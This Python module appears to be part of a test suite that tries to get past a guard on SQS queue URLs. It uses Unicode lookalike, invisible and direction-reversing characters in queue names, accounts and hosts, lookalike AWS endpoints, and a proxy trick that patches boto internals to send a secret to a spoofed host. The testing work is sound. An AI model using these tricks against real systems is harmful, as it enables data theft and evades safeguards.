"""Characters that look like others, are folded into others, or are not seen."""

from __future__ import annotations

import unicodedata
from collections.abc import Callable

from botocore.config import Config as ClientConfig

from bypasses.queue_urls import Variant, by_variant
from bypasses.stage import ACCOUNT, Stage, name_of
from bypasses.ways import Family

FAMILY = Family("unicode")
way = FAMILY.way


def renamed(change: Callable[[str], str]) -> Variant:
    """A URL with another name in it."""
    return lambda url: url.replace(name_of(url), change(name_of(url)))


NAMES: dict[str, tuple[str, Variant]] = {
    "full-width-name": ("full-width letters in its name", renamed(lambda name: name.replace("q", "\uff51"))),
    "cyrillic-name": ("a Cyrillic letter in its name", renamed(lambda name: name.replace("evil", "\u0435vil"))),
    "zero-width-name": ("a zero-width space in its name", renamed(lambda name: f"{name}\u200b")),
    "soft-hyphen-name": ("a soft hyphen in its name", renamed(lambda name: name.replace("-", "\u00ad-", 1))),
    "decomposed-name": (
        "a letter with a separate accent in its name",
        renamed(lambda name: unicodedata.normalize("NFD", f"{name}\u00e9")),
    ),
    "composed-name": (
        "a letter with an accent in its name", renamed(lambda name: unicodedata.normalize("NFC", f"{name}\u00e9")),
    ),
    "turned-around-name": ("a mark in its name that turns the direction", renamed(lambda name: f"\u202e{name}")),
    "full-width-digits": (
        "full-width digits in its account",
        lambda url: url.replace(ACCOUNT, "".join(chr(ord(each) + 0xFEE0) for each in ACCOUNT)),
    ),
    "arabic-digits": (
        "Arabic digits in its account",
        lambda url: url.replace(ACCOUNT, "".join(chr(0x0660 + int(each)) for each in ACCOUNT)),
    ),
    "full-width-slash": ("a full-width slash in its path", lambda url: f"https://localhost/{ACCOUNT}\uff0f{name_of(url)}"),
    "full-width-host": ("a full-width letter in its host", lambda url: url.replace("localhost", "\uff4cocalhost")),
    "ideographic-stop": (
        "an ideographic full stop in its host", lambda url: f"https://sqs\u3002example/{ACCOUNT}/{name_of(url)}",
    ),
    "line-separator": ("a line separator after it", lambda url: f"{url}\u2028"),
    "no-break-space": ("a no-break space after it", lambda url: f"{url}\u00a0"),
    "byte-order-mark": ("a byte order mark before it", lambda url: f"\ufeff{url}"),
    "lone-surrogate": ("half of a character after it", lambda url: f"{url}\ud83d"),
}  # fmt: skip

for _id, (_says, _variant) in NAMES.items():
    FAMILY.add(_id, f"The URL of a bad queue with {_says}.", by_variant(_variant))


HOSTS = {
    "endpoint-with-a-cyrillic-letter": "sqs.us-\u0435ast-1.amazonaws.com",
    "endpoint-in-punycode": "xn--sqs-u80a.us-east-1.amazonaws.com",
}


def by_proxy(host: str) -> Callable[[Stage], None]:
    """A living client that a handler turns to a host which a proxy is asked for."""

    def attempt(stage: Stage) -> None:
        client = stage.client({"config": ClientConfig(proxies={"https": stage.plain.url})})
        client._endpoint.http_session._proxy_config._proxies.clear()
        client.send_message(QueueUrl=stage.good, MessageBody="harmless")
        client._endpoint.http_session._proxy_config._proxies["https"] = stage.plain.url
        client._resolve_endpoint_ruleset = lambda *_, **__: (f"https://{host}", {}, {})
        client.send_message(QueueUrl=stage.good, MessageBody=stage.secret)

    return attempt


for _id, _host in HOSTS.items():
    FAMILY.add(_id, f"An endpoint that looks like one of AWS: {_host!a}.", by_proxy(_host))


@way
def message_of_all_characters(stage: Stage) -> None:
    """A message to a bad queue with characters outside of ASCII, ahead of the queue."""
    text = f'{stage.secret} \u00e9\U0001f600\u2028\uff42 "QueueUrl": "{stage.good}"'
    stage.client().send_message(MessageBody=text, QueueUrl=stage.bad)
